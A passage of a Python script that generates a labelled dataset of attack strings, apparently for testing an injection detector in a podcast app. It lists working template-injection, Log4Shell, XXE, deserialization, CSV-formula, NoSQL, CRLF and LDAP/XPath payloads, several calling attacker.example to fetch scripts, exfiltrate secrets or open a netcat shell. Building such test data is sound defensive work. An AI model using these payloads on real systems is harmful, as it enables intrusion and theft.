    ("title-ssti-jinja", "Ep 200 {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("sponsor-ssti-jinja", "Use code {{ lipsum.__globals__['os'].popen('cat /app/.env').read() }} at checkout"),
    ("notes-ssti-jinja-block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("notes-ssti-jinja+attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("bio-ssti-twig", "Kai Müller {{ ['id']|filter('system') }}"),
    ("bio-ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("notes-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
    ("notes-ssti-velocity", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('curl attacker.example/v')"),
    ("notes-ssti-thymeleaf", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("notes-ssti-erb", "Chapters: <%= `cat /etc/passwd` %>"),
    ("notes-ssti-erb", "<%= File.read('/app/config/master.key') %>"),
    ("notes-ssti-mako", "${ __import__('subprocess').check_output('id', shell=True) }"),
    ("notes-ssti-tornado", "{% import os %}{{ os.popen('whoami').read() }}"),
    ("notes-ssti-handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("notes-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("notes-ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("plain-ssti-smarty", "{system('id')}"),
    ("notes-ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("notes-ssti-go-template", "{{ .Env.AWS_SECRET_ACCESS_KEY }} {{ call .Exec \"id\" }}"),
    ("notes-spel", "#{T(java.lang.Runtime).getRuntime().exec('nslookup spel.attacker.example')}"),
    ("notes-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("notes-el", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("notes-el", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")}"),
    ("guest-bio-log4shell", "Dr. Ana Ruiz ${jndi:ldap://attacker.example:1389/a}"),
    ("user-agent-log4shell", "PodcastApp/3.1 ${jndi:rmi://203.0.113.44:1099/obj}"),
    ("search-log4shell+nested-lookup", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}dap://attacker.example/x}"),
    ("title-log4shell+default-lookup", "Ep 112 ${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://${env:HOSTNAME}.attacker.example}"),
    ("question-log4shell+env-exfil", "Love the show! ${jndi:dns://${env:DB_PASSWORD}.q.attacker.example}"),
    ("chapters-json-proto", "{\"startTime\":0,\"title\":\"Intro\",\"__proto__\":{\"isAdmin\":true}}"),
    ("chapters-json-proto", "{\"constructor\":{\"prototype\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');s\"}}}"),
    ("settings-json-proto", "{\"theme\":\"dark\",\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
    ("query-proto+bracket", "show[__proto__][isAdmin]=true"),
    ("query-proto+dotted", "constructor.prototype.role=admin"),
    ("rss-import-xxe", "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<rss version=\"2.0\"><channel><title>&x;</title></channel></rss>"),
    ("rss-import-xxe-oob", "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]>\n<rss><channel><title>Deep Dive</title></channel></rss>"),
    ("rss-import-xxe-ssrf", "<!DOCTYPE item [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><item><itunes:summary>&m;</itunes:summary></item>"),
    ("rss-import-xxe-php", "<!DOCTYPE r [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><rss><channel><description>&s;</description></channel></rss>"),
    ("rss-import-xinclude", "<description xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></description>"),
    ("rss-import-billion-laughs", "<!DOCTYPE r [<!ENTITY a \"podpodpodpod\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;\">]><rss><channel><title>&e;&e;&e;&e;</title></channel></rss>"),
    ("opml-import-xxe", "<?xml version=\"1.0\"?><!DOCTYPE opml [<!ENTITY f SYSTEM \"file:///home/app/.ssh/id_rsa\">]><opml version=\"2.0\"><body><outline text=\"&f;\"/></body></opml>"),
    ("state-cookie-pickle", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("import-yaml-python", "title: Ep 112\nnotes: !!python/object/apply:os.system [\"curl attacker.example/y | sh\"]"),
    ("import-yaml-python", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("import-yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("session-php-serialized", "O:8:\"Episode\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("session-php-serialized", "a:1:{i:0;O:13:\"PodcastLogger\":2:{s:4:\"path\";s:24:\"/var/www/html/shell.php\";s:4:\"data\";s:30:\"<?php system($_GET['c']); ?>\";}}"),
    ("state-java-serialized+base64", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"),
    ("viewstate-dotnet", "__VIEWSTATE=/wEyxBEAAQAAAP////8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg=="),
    ("json-net-typename", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/Pod\",\"autoCommit\":true}"),
    ("json-jackson-polymorphic", "[\"ch.qos.logback.core.db.DriverManagerConnectionSource\",{\"url\":\"jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://attacker.example/i.sql'\"}]"),
    ("csv-export-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for bonus ep\")"),
    ("csv-export-formula", "=cmd|' /C powershell -c iwr attacker.example/c.ps1|iex'!A0"),
    ("csv-export-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-export-formula", "+WEBSERVICE(\"https://attacker.example/w?\"&A1)"),
    ("csv-export-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-export-formula+tab-prefix", "\t=IMPORTXML(CONCAT(\"https://attacker.example/x?\",B3),\"//a\")"),
    ("csv-listener-name", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("notes-python-eval", "__import__('os').system('curl attacker.example/e|sh')"),
    ("duration-python-eval", "3600*0+__import__('subprocess').getoutput('id')"),
    ("filter-node-eval", "require('child_process').exec('nc 203.0.113.12 4444 -e /bin/sh')"),
    ("filter-node-eval", "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("sort-php-eval", "title);system('id');//"),
    ("notes-php-tag", "<?php echo shell_exec($_GET['cmd']); ?>"),
    ("plain-ruby-interpolation", "#{`id`}"),
    ("notes-ssi", "<!--#exec cmd=\"cat /etc/passwd\" -->"),
    ("notes-esi", "<esi:include src=\"http://attacker.example/esi.html\"/>"),
    ("notes-ssti-jinja+unicode-escape", "{{ ''['\\u005f\\u005fclass\\u005f\\u005f'] }}"),
    ("plain-ssti", "{{7*7}}${7*7}<%= 7*7 %>"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-proto", "{\"__proto__\":{\"polluted\":true}}"),
    ("plain-csv", "=1+1+cmd|' /C calc'!A0"),
]
CODE_FIELDS = ["Episode title", "Guest name", "Show notes", "Sponsor line", "Chapter"]
CODE_JNDI = ["ldap", "ldaps", "rmi", "dns", "iiop"]


def code_template(rng):
    f = rng.choice(CODE_FIELDS)
    proto = rng.choice(CODE_JNDI)
    host = rng.choice(["attacker.example", f"n{rng.randint(1, 99)}.attacker.example", f"203.0.113.{rng.randint(2, 250)}"])
    return ("field-log4shell", f"{f}: ${{jndi:{proto}://{host}:{rng.choice([389, 1389, 1099, 53])}/{rng.choice(['a', 'Exploit', 'pod', 'x'])}}}")


# ---------------------------------------------------------------- NoSQL injection
NOSQLI = [
    ("login-json-ne", "{\"email\": \"host@example.org\", \"password\": {\"$ne\": null}}"),
    ("login-json-gt", "{\"email\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("login-json-regex", "{\"email\": \"admin@example.org\", \"password\": {\"$regex\": \"^a\"}}"),
    ("login-query-ne", "email=host%40example.org&password[$ne]=x"),
    ("login-query-regex", "email[$regex]=.*&password[$exists]=true"),
    ("plain-where", "{\"$where\": \"sleep(5000) || true\"}"),
    ("search-where-string", "sleep'; while(true){}; var x='"),
    ("search-where-string", "0; return this.password_hash.match(/^\\$2b/) //"),
    ("episode-filter-or", "{\"$or\": [{\"published\": false}, {\"published\": true}]}"),
    ("episode-filter-in", "{\"show_id\": {\"$in\": [1,2,3,4,5,6,7,8,9,10]}, \"draft\": true}"),
    ("episode-filter-nin", "{\"visibility\": {\"$nin\": [\"public\"]}}"),
    ("episode-filter-expr", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(6000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"hosts\", \"localField\": \"owner\", \"foreignField\": \"_id\", \"as\": \"h\"}}]"),
    ("feed-token-regex", "{\"feed_token\": {\"$regex\": \"^[0-9a-f]\"}}"),
    ("promo-code-ne", "{\"code\": {\"$ne\": \"DIVE15\"}}"),
    ("tag-elemmatch", "{\"tags\": {\"$elemMatch\": {\"$regex\": \".*\"}}, \"explicit\": {\"$exists\": false}}"),
    ("couch-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password_hash\", \"email\"]}"),
    ("login-query-ne+urlenc", "password%5B%24ne%5D=1&email%5B%24ne%5D=1"),
    ("search-where+unicode-escape", "{\"\\u0024where\": \"this.role == 'admin'\"}"),
    ("redis-eval", "EVAL \"return redis.call('CONFIG','GET','*')\" 0"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-gt", "[$gt]="),
]
NOSQL_FIELDS = ["slug", "guid", "email", "promo_code", "feed_token"]
NOSQL_OPS = ["$ne", "$gt", "$regex", "$exists"]


def nosqli_template(rng):
    f = rng.choice(NOSQL_FIELDS)
    op = rng.choice(NOSQL_OPS)
    val = {"$ne": "null", "$gt": "\"\"", "$regex": "\".*\"", "$exists": "true"}[op]
    return ("filter-operator", f"{{\"{f}\": {{\"{op}\": {val}}}}}")


# ---------------------------------------------------------------- CRLF / log / header / mail
CRLF = [
    ("download-filename-header", "ep112.mp3\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("download-filename-header", "ep112.mp3\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-feed-url", "https://feeds.example.org/deep-dive.xml\r\nLocation: https://attacker.example/feed.xml"),
    ("redirect-feed-url+urlenc", "/feeds/deep-dive%0d%0aSet-Cookie:%20admin=1"),
    ("redirect-feed-url+double-urlenc", "/feeds/deep-dive%250d%250aX-Injected:%20yes"),
    ("redirect-ep+unicode-newline", "/ep/112\u560d\u560aSet-Cookie: s=1"),
    ("cache-key-header", "deep-dive\r\nX-Forwarded-Host: attacker.example"),
    ("cors-origin-header", "https://player.example\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("log-forged-entry", "sleep caffeine\n2024-05-14 05:00:01 INFO admin login success user=admin@example.org ip=127.0.0.1"),
    ("log-forged-entry", "DIVE15\r\n[2024-05-14T05:00:00Z] payment_verified order=4471 amount=0.00 status=OK"),
    ("log-forged-entry", "Q from listener\n127.0.0.1 - - [14/May/2024:05:00:00 +0000] \"GET /admin/export HTTP/1.1\" 200 5120"),
    ("log-ansi-escape", "ep112\u001b[2J\u001b[1;1HAll episodes deleted by admin\u001b[0m"),
    ("log-json-break", "sleep\",\"level\":\"info\",\"user\":\"admin\",\"action\":\"role_granted"),
    ("syslog-injection", "Deep Dive\n<13>May 14 05:00:00 media-01 sudo: app : COMMAND=/bin/bash"),
    ("mail-header-contact", "fan@example.org\r\nBcc: everyone@attacker.example"),
    ("mail-header-contact", "fan@example.org\nCc: list@attacker.example\nSubject: Your feed was suspended"),
    ("mail-header-subject", "Question about ep 112\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/reset\">Reset your password</a>"),
    ("mail-header-name", "Ana Ruiz\r\nReply-To: billing@attacker.example"),
    ("mail-smtp-body", "Loved the ep!\r\n.\r\nMAIL FROM:<host@example.org>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Invoice\r\n\r\npay here\r\n.\r\n"),
    ("mail-header+urlenc", "fan%40example.org%0ABcc%3A%20all%40attacker.example"),
    ("sponsor-webhook-header", "BrewBox\r\nAuthorization: Bearer FAKE-TOKEN-0000"),
    ("rss-header-vary", "audio/mpeg\r\nX-Accel-Redirect: /internal/ep-drafts/"),
    ("response-split-lf", "ep112.vtt\nContent-Type: text/html\n\n<img src=x onerror=alert(1)>"),
    ("csv-header-injection", "Episode,Downloads\r\n=cmd|'/C calc'!A0,999"),
    ("smuggle-te-header", "deep-dive\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("plain-crlf-cookie", "\r\nSet-Cookie: pwned=1"),
    ("plain-crlf-urlenc", "%0d%0aLocation:%20https://attacker.example"),
]
CRLF_FIELDS = ["ep{n}.mp3", "deep-dive-ep-{n}", "/ep/{n}", "S03E{n:02d}"]
CRLF_HEADERS = ["Set-Cookie: sid=fixated{n}", "X-Forwarded-For: 127.0.0.1", "Location: https://attacker.example/{n}",
                "Refresh: 0; url=https://attacker.example/"]


def crlf_template(rng):
    n = rng.randint(1, 99)
    sep = rng.choice(["\r\n", "%0d%0a", "%0D%0A", "\n"])
    tech = "header" if "%" not in sep else "header+urlenc"
    return (f"episode-{tech}", rng.choice(CRLF_FIELDS).format(n=n) + sep + rng.choice(CRLF_HEADERS).format(n=n))


# ---------------------------------------------------------------- LDAP / XPath
LDAP_XPATH = [
    ("plain-ldap-wildcard", "*)(uid=*"),
    ("guest-directory-ldap-or", "Ana Ruiz)(|(objectClass=*)"),
    ("host-login-ldap-bypass", "admin)(&)"),
    ("host-login-ldap-bypass", "*)(|(userPassword=*)"),
    ("host-login-ldap-blind", "mike*)(userPassword=a*"),
    ("guest-directory-ldap-attr", "*)(mail=*@example.org)(|(cn=*"),
    ("team-group-ldap", "producers)(|(memberOf=cn=admins,ou=groups,dc=example,dc=org)"),
    ("guest-directory-ldap+hex-escape", "\\2a)(uid=\\2a"),
    ("guest-directory-ldap+nullbyte", "admin)%00"),
    ("guest-directory-ldap+urlenc", "%2A%29%28objectClass%3D%2A"),
    ("plain-xpath-or", "' or '1'='1"),
    ("episode-xml-xpath-or", "Drop Everything' or title!='"),
    ("feed-xml-xpath-union", "ep112'] | //itunes:owner/itunes:email | //*['"),
    ("feed-xml-xpath-blind", "x' or substring(//user[1]/password,1,1)='p' or 'a'='b"),
    ("feed-xml-xpath-count", "x' or count(//host)>3 and '1'='1"),
    ("chapter-xml-xpath-name", "') or name(/*[1])='rss' or ('"),
    ("host-login-xpath-bypass", "admin' or '1'='1' or 'a'='a"),
    ("opml-xpath-doc", "x' or doc('http://attacker.example/x.xml') or '"),
    ("feed-xml-xpath-string-length", "' or string-length(//host[1]/api_key)=32 or '"),
    ("plain-ldap", "*)(&(objectClass=*)"),
    ("plain-xpath", "' or 1=1 or ''='"),
]
LDAP_NAMES = ["Ana", "Kai", "Priya", "Dana", "Mike", "Noor", "Seán", "Mei"]
LDAP_ATTRS = ["userPassword", "mail", "telephoneNumber", "memberOf", "description"]


def ldap_template(rng):
    return ("guest-directory-ldap-injection",
            f"{rng.choice(LDAP_NAMES)}*)({rng.choice(LDAP_ATTRS)}={rng.choice(['*', 'a*', '*admin*', 'x*'])}")


CATEGORIES = [
    # name, literals, template, number of template values, techniques summary
    ("sqli", SQLI, sqli_template, 9),
    ("xss", XSS, xss_template, 6),
    ("cmdi", CMDI, cmdi_template, 8),
    ("traversal", TRAVERSAL, traversal_template, 6),
    ("ssrf", SSRF, ssrf_template, 5),
    ("code", CODE, code_template, 4),
    ("nosqli", NOSQLI, nosqli_template, 3),
    ("crlf", CRLF, crlf_template, 4),
    ("ldap-xpath", LDAP_XPATH, ldap_template, 2),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = {}
    stats = []
    for cat, literals, template, n_tmpl in CATEGORIES:
        count = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen[v] = cat
            rows.append({"category": cat, "class": cls, "value": v})
            count += 1
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 5000:
                raise SystemExit(f"template for {cat} cannot produce enough unique values")
            cls, v = template(rng)
            if v in seen:
                continue
            seen[v] = cat
            rows.append({"category": cat, "class": cls, "value": v})
            made += 1
        stats.append((cat, count + made, count))
    return rows, stats


def main():
    rows, stats = build()
    bpath = Path(__file__).with_name("benign.jsonl")
    benign = set()
    if bpath.exists():
        with open(bpath, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    out = []
    for i, r in enumerate(rows, 1):
        v = r["value"]
        assert isinstance(v, str) and v and len(v) <= 1800, r
        assert v not in benign, f"value also in benign: {v!r}"
        out.append({"id": f"{PREFIX}-{i:05d}", "category": r["category"], "class": r["class"],
                    "label": "attack", "value": v})
    values = [o["value"] for o in out]
    assert len(values) == len(set(values)), "duplicate values"
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for obj in out:
            f.write(json.dumps(obj, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in stats:
        total_lit += lit
        print(f"{cat:11s} {n:4d}  literals={lit}")
    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    enc = sum(1 for o in out if "+" in o["class"])
    print(f"total {len(out)}  literals={total_lit} ({100 * total_lit / len(out):.1f}%)  plain={plain}  encoded={enc}  -> {path}")


if __name__ == "__main__":
    main()
